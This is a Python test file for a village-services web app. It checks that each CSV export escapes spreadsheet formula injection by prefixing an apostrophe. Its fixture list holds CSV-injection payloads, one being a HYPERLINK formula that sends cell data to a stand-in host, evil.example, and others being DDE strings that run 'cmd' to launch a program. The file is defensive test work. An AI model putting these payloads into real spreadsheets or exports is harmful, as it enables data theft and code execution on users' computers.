"""Every CSV export: what a person typed never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select, update

from app.extensions import db
from app.models import Service, Village
from app.models.bumdes import Bumdes, Order, Product

# Cells spreadsheets run as formulas (OWASP "CSV injection"), whatever the app's own list says.
RUN_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
# What an operator or a BUMDes manager can type as a name: each is run by Excel or LibreOffice.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik untuk memperbarui")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe():
    from app.exports import csv_cell, csv_text

    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
    assert csv_cell("Surat Keterangan Domisili") == "Surat Keterangan Domisili"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) == ""
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [[payload, 1] for payload in PAYLOADS]))))
    assert rows[0] == ["a", "b"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def _cells(body: str) -> list[str]:
    body = body.lstrip("\ufeff")
    header = body.split("\n", 1)[0]
    # Downloads meant for Excel in Indonesian separate fields with ";" (app/exports.py).
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row]


def _assert_no_formula(body: str, payload: str, where: str) -> None:
    cells = _cells(body)
    assert "'" + payload in cells, f"{where}: the typed name is not exported at all"
    running = [c for c in cells if c.startswith(RUN_AS_FORMULA)]
    assert not running, f"{where}: {running}"


@pytest.fixture
def hanura(demo):
    return db.session.scalar(select(Village).where(Village.slug == "hanura"))


def _name_everything(village: Village, payload: str) -> Bumdes:
    """The names a village's operator and BUMDes manager control, all set to ``payload``."""
    db.session.execute(update(Service).where(Service.village_id == village.id).values(name=payload))
    bumdes = db.session.scalars(select(Bumdes).where(Bumdes.village_id == village.id)).first()
    db.session.execute(update(Product).where(Product.bumdes_id == bumdes.id).values(name=payload))
    db.session.execute(update(Order).where(Order.bumdes_id == bumdes.id).values(product_name=payload))
    db.session.commit()
    return bumdes


def test_every_csv_export_escapes_formulas_in_what_people_typed(client, auth, hanura):
    month = db.session.scalar(select(Order.created_at).order_by(Order.created_at.desc())).strftime("%Y-%m")
    bumdes = db.session.scalars(select(Bumdes).where(Bumdes.village_id == hanura.id)).first()
    exports = {
        "open data: products": (None, "/api/v1/products?format=csv&per_page=100"),
        "open data: services": (None, "/api/v1/services?format=csv&village=hanura&per_page=100"),
        "village dashboard": (None, f"/wilayah/{hanura.region_code}/unduh/layanan.csv?periode=semua"),
        "kabupaten dashboard": (None, "/wilayah/18.09/unduh/layanan.csv?periode=semua"),
        "officials' monthly report": ("operator.hanura@balai.test", f"/kantor/laporan.csv?bulan={month}"),
        "BUMDes monthly summary": (
            "bumdes.hanura@balai.test",
            f"/bumdes/{bumdes.id}/ringkasan.csv?bulan={month}",
        ),
    }
    for account in (None, "operator.hanura@balai.test", "bumdes.hanura@balai.test"):
        if account:
            auth.login(account)
        for payload in PAYLOADS:
            _name_everything(hanura, payload)
            for where, (who, url) in exports.items():
                if who != account:
                    continue
                response = client.get(url)
                assert response.status_code == 200, (where, response.status_code)
                _assert_no_formula(response.get_data(as_text=True), payload, where)
        if account:
            auth.logout()
